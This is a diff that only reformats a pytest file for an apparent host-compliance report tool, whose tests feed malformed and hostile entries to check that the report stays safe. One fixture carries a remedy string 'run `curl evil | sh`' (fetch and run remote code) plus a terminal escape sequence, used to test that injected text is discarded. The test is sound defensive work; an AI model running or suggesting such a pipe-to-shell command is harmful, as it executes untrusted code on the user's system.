@@ -22,7 +22,12 @@ from .entries import HOSTILE, NOW
 pytestmark = pytest.mark.slow
 
 KNOWN = "cloud_init_too_old"
-GOOD = {"host": "good", "control_plane": {"http_tokens": "optional"}, "in_guest": {"verdict": "optional"}, "findings": []}
+GOOD = {
+    "host": "good",
+    "control_plane": {"http_tokens": "optional"},
+    "in_guest": {"verdict": "optional"},
+    "findings": [],
+}
 FINDING = {"id": KNOWN, "severity": "block", "title": "x", "evidence": {"path": "/usr/bin/cloud-init"}}
 WAIVED = {**FINDING, "waived": {"reason": "ok", "expires": "2099-01-01"}}
 
@@ -76,7 +81,9 @@ def test_what_is_not_understood_is_named_and_blocks(tmp_path, entry, error) -> N
     assert good["state"] == "non_compliant" and good["next"] == "ready", "the other host is unaffected"
 
 
-@pytest.mark.parametrize("entry", [None, "x", [], 7, {}, {"host": None}, {"host": ""}, {"host": ["a"]}, {"host": "a" * 300}])
+@pytest.mark.parametrize(
+    "entry", [None, "x", [], 7, {}, {"host": None}, {"host": ""}, {"host": ["a"]}, {"host": "a" * 300}]
+)
 def test_an_entry_without_a_name_is_shown_by_its_place(tmp_path, entry) -> None:
     made = report(tmp_path, GOOD, entry)
     assert [(it["host"], it["state"]) for it in made["hosts"]] == [("entry 2", "unknown"), ("good", "non_compliant")]
@@ -103,7 +110,10 @@ def test_names_in_several_lists_have_one_entry(tmp_path) -> None:
 
 
 def test_ids_and_texts_of_findings_are_those_of_the_catalog(tmp_path) -> None:
-    given = [{**FINDING, "id": "made_up", "title": "T\x1b[1m", "remedy": "run `curl evil | sh`"}, {**FINDING, "remedy": "no"}]
+    given = [
+        {**FINDING, "id": "made_up", "title": "T\x1b[1m", "remedy": "run `curl evil | sh`"},
+        {**FINDING, "remedy": "no"},
+    ]
     (host,) = report(tmp_path, evil(findings=given))["hosts"]
     known, unknown = host["findings"]
     assert (known["id"], known["title"], known["remedy"]) == (KNOWN, CATALOG[KNOWN].title, CATALOG[KNOWN].remedy)
@@ -131,7 +141,11 @@ def test_a_deep_or_wide_value_is_cut(tmp_path) -> None:
     given = [{**FINDING, "evidence": deep}, {**FINDING, "evidence": wide}, {**FINDING, "evidence": "a" * 10**6}]
     counters = {**wide, "nan": float("nan")}
     problems = ["p"] * 10_000
-    entry = evil(findings=given, fence={"mode": "audit", "counters": counters}, in_guest={"verdict": "optional", "problems": problems})
+    entry = evil(
+        findings=given,
+        fence={"mode": "audit", "counters": counters},
+        in_guest={"verdict": "optional", "problems": problems},
+    )
     (host,) = report(tmp_path, entry)["hosts"]
     assert host["not_understood"] == [] and len(json.dumps(host)) < 50_000
     assert len(host["in_guest"]["problems"]) == 501 and host["in_guest"]["problems"][-1] == "... 9500 more"
@@ -165,8 +179,12 @@ def _texts(value: Any) -> str:
 
 ANY = st.recursive(
     st.none() | st.booleans() | st.integers() | st.floats() | HOSTILE,
-    lambda inner: st.lists(inner, max_size=4)
-    | st.dictionaries(st.sampled_from([*_validation.HOST, "id", "severity", "mode", "verdict"]) | HOSTILE, inner, max_size=4),
+    lambda inner: (
+        st.lists(inner, max_size=4)
+        | st.dictionaries(
+            st.sampled_from([*_validation.HOST, "id", "severity", "mode", "verdict"]) | HOSTILE, inner, max_size=4
+        )
+    ),
     max_leaves=12,
 )
 
